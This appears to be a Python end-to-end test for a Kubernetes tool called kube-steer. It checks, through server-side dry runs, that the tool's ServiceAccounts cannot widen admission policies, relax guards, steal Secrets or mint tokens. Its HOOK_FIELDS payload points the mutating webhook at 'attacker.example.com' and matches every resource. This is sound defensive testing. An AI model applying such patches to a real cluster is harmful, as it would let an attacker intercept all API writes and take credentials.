"""What no kube-steer identity may do, tried on the real apiserver with each ServiceAccount's
token (docs/security.md): every write is a server-side dry run (`dryRun=All`: RBAC and every
admission policy judge it, nothing is stored), so an attempt that would succeed changes nothing.

`attempts(plane)` returns one `Attempt` per (account, action) with the apiserver's answer;
`refused_everywhere` says which of them were not refused. Used by the kustomize install's e2e
(tests/e2e/test_install.py) and the Helm chart's (tests/e2e/test_chart.py).
"""

from __future__ import annotations

import json
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import requests

from kits.control_plane import ControlPlane

NS = "kube-steer"
ADMISSION = "/apis/admissionregistration.k8s.io/v1"
JSON_PATCH = "application/json-patch+json"
MERGE_PATCH = "application/merge-patch+json"
NODE = "privilege-e2e"
OTHER_SECRET = "privilege-e2e-other"


@dataclass(frozen=True)
class Attempt:
    account: str
    action: str
    status: int
    message: str

    @property
    def refused(self) -> bool:
        return self.status in (401, 403, 422)

    def line(self) -> str:
        return f"{self.account:18} {self.status} {self.action}: {self.message[:160]}"


def _wide_selector() -> dict[str, Any]:
    return {
        "matchExpressions": [
            {"key": "kubernetes.io/metadata.name", "operator": "In", "values": ["kube-system", NS]}
        ]
    }


def _vap(kind: str, name: str) -> dict[str, Any]:
    rules = [
        {"apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}
    ]
    if kind == "ValidatingAdmissionPolicy":
        spec: dict[str, Any] = {
            "failurePolicy": "Fail",
            "matchConstraints": {"namespaceSelector": _wide_selector(), "resourceRules": rules},
            "validations": [{"expression": "false"}],
        }
    elif kind == "MutatingAdmissionPolicy":
        spec = {
            "failurePolicy": "Fail",
            "reinvocationPolicy": "Never",
            "matchConstraints": {"namespaceSelector": _wide_selector(), "resourceRules": rules},
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": "[]"}}],
        }
    else:
        spec = {"policyName": name, "matchResources": {"namespaceSelector": _wide_selector()}}
        if kind == "ValidatingAdmissionPolicyBinding":
            spec["validationActions"] = ["Deny"]
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": name},
        "spec": spec,
    }


# (action, method, path, body, content type): what each account tries.
Try = tuple[str, str, str, Any, str]


def _tries(hook_fields: dict[str, Any]) -> list[Try]:
    out: list[Try] = []
    for kind, plural in (
        ("ValidatingAdmissionPolicy", "validatingadmissionpolicies"),
        ("ValidatingAdmissionPolicyBinding", "validatingadmissionpolicybindings"),
        ("MutatingAdmissionPolicy", "mutatingadmissionpolicies"),
        ("MutatingAdmissionPolicyBinding", "mutatingadmissionpolicybindings"),
    ):
        out.append(
            (
                f"create a {kind} matching kube-system and kube-steer",
                "POST",
                f"{ADMISSION}/{plural}",
                _vap(kind, "privilege-e2e"),
                "application/json",
            )
        )
    widen = {"spec": {"matchResources": {"namespaceSelector": _wide_selector()}}}
    for plural, name in (
        ("validatingadmissionpolicybindings", "steer-security"),
        ("validatingadmissionpolicybindings", "steer-budget"),
        ("mutatingadmissionpolicybindings", "steer-mutation"),
    ):
        out.append(
            (
                f"widen the binding {name} to kube-system",
                "PATCH",
                f"{ADMISSION}/{plural}/{name}",
                widen,
                MERGE_PATCH,
            )
        )
    for field, value in hook_fields.items():
        patch = [{"op": "replace", "path": f"/webhooks/0/{field}", "value": value}]
        out.append(
            (
                f"change webhooks[0].{field} of MutatingWebhookConfiguration steer-webhook",
                "PATCH",
                f"{ADMISSION}/mutatingwebhookconfigurations/steer-webhook",
                patch,
                JSON_PATCH,
            )
        )
    relax = {"spec": {"validations": [{"expression": "true"}]}}
    for plural, name in (
        ("validatingadmissionpolicies", "steer-guard-webhook-configurations"),
        ("validatingadmissionpolicies", "steer-guard-secrets"),
        ("validatingadmissionpolicies", "steer-scorer-node-writes"),
    ):
        out.append(
            (f"edit the guard {name}", "PATCH", f"{ADMISSION}/{plural}/{name}", relax, MERGE_PATCH)
        )
    out.append(
        (
            "delete the guard binding steer-guard-secrets",
            "DELETE",
            f"{ADMISSION}/validatingadmissionpolicybindings/steer-guard-secrets",
            None,
            "",
        )
    )
    out.append(
        (
            "label a node outside the prefixes",
            "PATCH",
            f"/api/v1/nodes/{NODE}",
            {"metadata": {"labels": {"example.com/owned": "yes"}}},
            MERGE_PATCH,
        )
    )
    out.append(
        (
            "taint a node outside the prefixes",
            "PATCH",
            f"/api/v1/nodes/{NODE}",
            {"spec": {"taints": [{"key": "example.com/evict", "effect": "NoExecute"}]}},
            MERGE_PATCH,
        )
    )
    out.append(
        ("read another Secret", "GET", f"/api/v1/namespaces/{NS}/secrets/{OTHER_SECRET}", None, "")
    )
    out.append(
        (
            "create a Secret of another name",
            "POST",
            f"/api/v1/namespaces/{NS}/secrets",
            {"metadata": {"name": "privilege-e2e-made"}, "data": {}},
            "application/json",
        )
    )
    token = {
        "metadata": {
            "name": "steer-webhook-ca",
            "annotations": {"kubernetes.io/service-account.name": "steer-scorer"},
        },
        "type": "kubernetes.io/service-account-token",
    }
    out.append(
        (
            "create a ServiceAccount token Secret",
            "POST",
            f"/api/v1/namespaces/{NS}/secrets",
            token,
            "application/json",
        )
    )
    return out


HOOK_FIELDS: dict[str, Any] = {
    "clientConfig": {"url": "https://attacker.example.com/mutate"},
    "rules": [
        {
            "operations": ["CREATE", "UPDATE"],
            "apiGroups": ["*"],
            "apiVersions": ["*"],
            "resources": ["*"],
        }
    ],
    "namespaceSelector": {},
    "failurePolicy": "Fail",
}


def accounts(plane: ControlPlane) -> list[str]:
    found = json.loads(plane.kubectl("-n", NS, "get", "serviceaccounts", "-o=json"))
    return sorted(item["metadata"]["name"] for item in found["items"])


def prepare(plane: ControlPlane) -> None:
    """A node to write and a Secret none of them owns."""
    if not plane.kubectl("get", "node", NODE, "--ignore-not-found").strip():
        plane.add_node(NODE, cpu="4", memory="8Gi", zone="zone-a")
    if not plane.kubectl("-n", NS, "get", "secret", OTHER_SECRET, "--ignore-not-found").strip():
        plane.kubectl("-n", NS, "create", "secret", "generic", OTHER_SECRET, "--from-literal=k=v")


def cleanup(plane: ControlPlane) -> None:
    """The node and the Secret `prepare` made: later tests count the nodes."""
    plane.kubectl("delete", "node", NODE, "--ignore-not-found")
    plane.kubectl("-n", NS, "delete", "secret", OTHER_SECRET, "--ignore-not-found")


def attempts(plane: ControlPlane, hook_fields: dict[str, Any] = HOOK_FIELDS) -> list[Attempt]:
    """Every attempt of every account, on a node and a Secret made for them and removed after."""
    prepare(plane)
    try:
        return _attempts(plane, hook_fields)
    finally:
        cleanup(plane)


def _attempts(plane: ControlPlane, hook_fields: dict[str, Any]) -> list[Attempt]:
    out = []
    for account in accounts(plane):
        token = plane.kubectl("-n", NS, "create", "token", account, "--duration=10m").strip()
        with requests.Session() as session:
            session.trust_env = False
            session.verify = str(plane.ca_file)
            session.headers["Authorization"] = f"Bearer {token}"
            for action, method, path, body, content_type in _tries(hook_fields):
                out.append(
                    _try(session, plane.url, account, action, method, path, body, content_type)
                )
    return out


def _try(
    session: requests.Session,
    base: str,
    account: str,
    action: str,
    method: str,
    path: str,
    body: Any,
    content_type: str,
) -> Attempt:
    params = {} if method == "GET" else {"dryRun": "All"}
    headers = {"Content-Type": content_type} if content_type else {}
    data = json.dumps(body) if body is not None else None
    reply = session.request(
        method, base + path, params=params, data=data, headers=headers, timeout=10
    )
    try:
        message = str(reply.json().get("message", ""))
    except ValueError:
        message = reply.text
    return Attempt(account, action, reply.status_code, message)


def not_refused(found: list[Attempt], allowed: Callable[[Attempt], bool]) -> list[Attempt]:
    """The attempts the apiserver did not refuse, but those `allowed` says are expected."""
    return [a for a in found if not a.refused and not allowed(a)]


def may_set_ca_bundle(plane: ControlPlane, account: str) -> Attempt:
    """The one change the guard leaves a kube-steer identity: caBundle (a dry run)."""
    token = plane.kubectl("-n", NS, "create", "token", account, "--duration=10m").strip()
    bundle = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCg=="
    patch = [{"op": "add", "path": "/webhooks/0/clientConfig/caBundle", "value": bundle}]
    with requests.Session() as session:
        session.trust_env = False
        session.verify = str(plane.ca_file)
        session.headers["Authorization"] = f"Bearer {token}"
        return _try(
            session,
            plane.url,
            account,
            "set caBundle",
            "PATCH",
            f"{ADMISSION}/mutatingwebhookconfigurations/steer-webhook",
            patch,
            JSON_PATCH,
        )


def check_no_identity_widens_its_reach(plane: ControlPlane) -> list[Attempt]:
    """Every attempt of every account refused, by RBAC or by a guard naming what it refuses
    (the webhook configurations' fields, the Secrets' names, the node keys); the controller
    may still set caBundle. Returns the attempts (their table is printed)."""
    found = attempts(plane)
    table = "\n".join(a.line() for a in found)
    print(table)  # the list of attempts and refusals, in the test's output
    assert {a.account for a in found} >= {"steer-scorer", "steer-controller", "steer-webhook"}
    assert not not_refused(found, lambda _a: False), table
    by = {(a.account, a.action): a for a in found}
    for named in ("clientConfig.service", "rules", "namespaceSelector", "failurePolicy"):
        action = f"change webhooks[0].{named.split('.')[0]} of MutatingWebhookConfiguration"
        refusal = by[("steer-controller", f"{action} steer-webhook")]
        assert "steer-guard-webhook-configurations" in refusal.message, refusal.line()
        assert named in refusal.message, refusal.line()
    for action in ("create a Secret of another name", "create a ServiceAccount token Secret"):
        assert "steer-guard-secrets" in by[("steer-controller", action)].message
    for action in ("label a node outside the prefixes", "taint a node outside the prefixes"):
        assert "scorer-owned-keys" in by[("steer-scorer", action)].message
    allowed = may_set_ca_bundle(plane, "steer-controller")
    assert allowed.status == 200, allowed.line()
    return found
